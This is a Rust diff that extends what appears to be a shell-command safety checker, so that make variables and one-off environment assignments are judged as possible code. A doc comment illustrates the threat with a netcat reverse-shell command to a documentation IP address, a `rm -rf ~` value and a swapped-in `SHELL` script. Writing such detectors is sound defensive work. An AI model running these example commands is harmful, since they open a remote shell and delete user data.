@@ -36,6 +36,7 @@ impl Walker {
             }
         }
         let name = cmd.name();
+        self.command_like_settings(&cmd, name.as_deref());
         // What go runs in place of what it builds is a command line of
         // its own (`go test -exec 'sudo -E' ./...`).
         if let Some(name) = name.as_deref() {
@@ -349,4 +350,54 @@ fn guest_exec_words(request: &serde_json::Value) -> Option<Vec<String>> {
         words.push(arg.as_str()?.to_owned());
     }
     Some(words)
+}
+
+impl Walker {
+    /// Settings that may be run as programs though no table says so: a
+    /// `make` variable given on its command line (`make train
+    /// PYTHON='bash -c "nc -e /bin/sh 203.0.113.5 4444"'`: a recipe's
+    /// `$(PYTHON)` runs it), and a value with spaces set for one command
+    /// (`RUNNER='rm -rf ~' ./ci.sh`). A make variable that names a program
+    /// or the recipes' shell (`make SHELL=/tmp/x.sh`, `make CC='…'`) is
+    /// code, as such an environment variable is; any other value is walked
+    /// speculatively: it counts only where it names a program the danger
+    /// set knows, and asks at most.
+    fn command_like_settings(&mut self, cmd: &SimpleCommand, name: Option<&str>) {
+        if cmd.argv.is_empty() {
+            // A bare assignment runs nothing; where it is used, the
+            // variable copies judge it.
+            return;
+        }
+        let depth = cmd.depth + 1;
+        for (n, w) in &cmd.assignments {
+            if !programs::is_code_variable(n) && w.literal && w.value.contains([' ', '\t']) {
+                self.speculate(&w.value, depth);
+            }
+        }
+        if !matches!(name, Some("make" | "gmake" | "bmake" | "remake" | "just")) {
+            return;
+        }
+        for w in cmd.args().iter().take_while(|w| w.value != "--") {
+            let Some((var, value)) = w.value.split_once('=') else {
+                continue;
+            };
+            if var.is_empty() || !var.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+                continue;
+            }
+            let value = Word {
+                value: value.to_owned(),
+                ..w.clone()
+            };
+            if programs::is_code_variable(var) || var == "SHELL" {
+                self.code_words(
+                    var,
+                    std::slice::from_ref(&value),
+                    Origin::ShellString,
+                    depth,
+                );
+            } else if value.literal {
+                self.speculate(&value.value, depth);
+            }
+        }
+    }
 }
